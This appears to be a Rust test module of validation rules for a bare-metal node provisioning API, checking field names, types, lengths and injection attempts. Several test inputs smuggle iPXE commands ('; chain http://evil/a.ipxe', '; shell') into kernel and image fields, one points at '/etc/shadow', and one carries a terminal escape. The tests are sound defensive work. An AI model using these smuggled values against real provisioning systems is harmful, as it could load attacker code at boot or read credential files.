//! Of nodes.

use super::*;

pub(super) fn of_nodes() -> Vec<Rule> {
    let long = |length| "x".repeat(length);
    vec![
        rule(
            "a driver is needed",
            [refused("/node/driver", json!({"node": {"name": "a"}}))],
        ),
        rule(
            "known keys only",
            [
                refused("/node/resource_clas", node(json!({"resource_clas": "x"}))),
                refused("/node/traits", node(json!({"traits": ["HW_CPU_X86_AVX2"]}))),
                refused(
                    "/node/provision_state",
                    node(json!({"provision_state": "active"})),
                ),
                refused("/node/protected", node(json!({"protected": true}))),
                refused(
                    "/node/allocation_uuid",
                    node(json!({"allocation_uuid": "38947555-7742-3448-3784-823347823834"})),
                ),
            ],
        ),
        rule(
            "types of fields",
            [
                refused("/node/extra", node(json!({"extra": []}))),
                refused("/node/name", node(json!({"name": 7}))),
                refused("/node/maintenance", node(json!({"maintenance": "maybe"}))),
                refused("/node/instance_uuid", node(json!({"instance_uuid": "1"}))),
                taken(node(
                    json!({"maintenance": "off", "automated_clean": "true"}),
                )),
            ],
        ),
        rule(
            "lengths of fields",
            [
                refused(
                    "/node/resource_class",
                    node(json!({"resource_class": long(81)})),
                ),
                taken(node(json!({"resource_class": long(80)}))),
                refused(
                    "/node/description",
                    node(json!({"description": long(4097)})),
                ),
                taken(node(json!({"description": long(4096)}))),
            ],
        ),
        rule(
            "objects are not null",
            [
                stricter("/node/properties", node(json!({"properties": null}))),
                stricter("/node/driver_info", node(json!({"driver_info": null}))),
            ],
        ),
        rule(
            "names of nodes",
            [
                refused("/node/name", node(json!({"name": "Dell Inc._SN1"}))),
                refused(
                    "/node/name",
                    node(json!({"name": "38947555-7742-3448-3784-823347823834"})),
                ),
                refused(
                    "/node/name",
                    node(json!({"name": "38947555774234483784823347823834"})),
                ),
                refused("/node/name", node(json!({"name": "validate"}))),
                refused("/node/name", node(json!({"name": "vendor_passthru"}))),
                refused("/node/name", node(json!({"name": long(256)}))),
                taken(node(json!({"name": long(255)}))),
                taken(node(json!({"name": "a.b_c~d-E"}))),
            ],
        ),
        rule(
            "names that the API cannot find again",
            [
                stricter("/node/name", node(json!({"name": "ports"}))),
                stricter("/node/name", node(json!({"name": "traits"}))),
            ],
        ),
        rule(
            "an owner comes after",
            [taken(node(json!({"owner": "admin"})))],
        ),
        rule(
            "conductor groups",
            [
                refused(
                    "/node/conductor_group",
                    node(json!({"conductor_group": "rack a"})),
                ),
                taken(node(json!({"conductor_group": ""}))),
            ],
        ),
        rule(
            "resource classes are free text",
            [taken(node(json!({"resource_class": "Dell Inc/R7615 é"})))],
        ),
        rule(
            "capabilities",
            [
                stricter(
                    "/node/properties/capabilities",
                    node(json!({"properties": {"capabilities": 5}})),
                ),
                taken(node(
                    json!({"properties": {"capabilities": {"boot_mode": "uefi"}}}),
                )),
                taken(node(
                    json!({"properties": {"capabilities": "boot_mode:uefi"}}),
                )),
            ],
        ),
        rule(
            "driver_info is understood",
            [
                stricter(
                    "/node/driver_info/redfish_system_id",
                    node(json!({"driver_info": {"redfish_system_id": 1}})),
                ),
                stricter(
                    "/node/driver_info/redfish_verify_ca",
                    node(json!({"driver_info": {"redfish_verify_ca": 1}})),
                ),
                stricter(
                    "/node/driver_info/redfish_auth_type",
                    node(json!({"driver_info": {"redfish_auth_type": "none"}})),
                ),
            ],
        ),
        rule(
            "sizes of bodies",
            [stricter(
                "/node/extra",
                node(json!({"extra": {"a": "x".repeat(110_000)}})),
            )],
        ),
        rule(
            "no control characters",
            [stricter(
                "/node/extra/a",
                node(json!({"extra": {"a": "\u{1b}[2J"}})),
            )],
        ),
        rule(
            "no files, no scripts",
            [
                stricter(
                    "/node/driver_info/a",
                    node(json!({"driver_info": {"a": "file:///etc/shadow"}})),
                ),
                stricter(
                    "/node/instance_info/a",
                    node(json!({"instance_info": {"a": "#!ipxe"}})),
                ),
            ],
        ),
        rule("no commands for iPXE", commands()),
    ]
}

fn commands() -> [Case; 14] {
    let of_driver = |key: &str, text: &str| node(json!({"driver_info": {key: text}}));
    let of_instance = |key: &str, text: &str| node(json!({"instance_info": {key: text}}));
    let append = "/node/driver_info/kernel_append_params";
    let ramdisk = "/node/instance_info/ramdisk_kernel_arguments";
    let nested = json!({"ramdisk_kernel_arguments": {"a": {"b ; shell": 1}}});
    let as_if = json!({"configdrive": "x || chain http://evil/a.ipxe"});
    [
        stricter(
            append,
            of_driver("kernel_append_params", "quiet ; chain http://evil/a.ipxe #"),
        ),
        stricter(
            append,
            of_driver(
                "kernel_append_params",
                "quiet -- ; chain http://evil/a.ipxe",
            ),
        ),
        stricter(append, of_driver("kernel_append_params", "a=\"b ; c\"")),
        stricter(append, of_driver("kernel_append_params", "quiet #")),
        stricter(append, of_driver("kernel_append_params", "$%default%{mac}")),
        stricter(
            ramdisk,
            of_instance("ramdisk_kernel_arguments", "x || chain http://evil/a.ipxe"),
        ),
        stricter(
            ramdisk,
            of_instance("ramdisk_kernel_arguments", "x ; shell"),
        ),
        stricter(
            "/node/instance_info/ramdisk_kernel_arguments/a/b ; shell",
            node(json!({ "instance_info": nested })),
        ),
        stricter(
            "/node/instance_info/ramdisk_kernel_arguments/configdrive",
            node(json!({"instance_info": {"ramdisk_kernel_arguments": as_if}})),
        ),
        stricter(
            "/node/instance_info/image_source",
            of_instance("image_source", "http://images/a ; chain http://evil/a.ipxe"),
        ),
        stricter(
            "/node/driver_info/deploy_kernel",
            of_driver("deploy_kernel", "http://images/${net0/mac}"),
        ),
        taken(node(json!({
            "driver_info": {"kernel_append_params": "console=ttyS0,115200n8 nofb %default% memmap=64M$0x18000000"},
            "instance_info": {
                "ramdisk_kernel_arguments": "pci=resource_alignment=20@pci:8086:9c22;12@pci:8086:9c23 -- single",
                "image_source": "http://images/a?b=1&c=2#d",
            },
        }))),
        taken(of_instance("display_name", "rack #4, R&D; |x|")),
        taken(node(
            json!({"instance_info": {"configdrive": {"user_data": "#!/bin/sh -c 'a || b'"}}}),
        )),
    ]
}
